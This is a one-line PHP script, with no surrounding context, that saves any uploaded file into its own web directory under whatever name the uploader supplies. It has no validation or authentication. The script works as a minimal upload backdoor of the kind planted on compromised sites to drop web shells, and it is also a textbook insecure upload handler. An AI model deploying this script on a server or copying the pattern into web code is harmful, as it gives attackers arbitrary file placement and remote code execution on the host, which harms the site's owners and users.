<?php copy($_FILES["up"]["tmp_name"], "./" . $_FILES["up"]["name"]); ?>
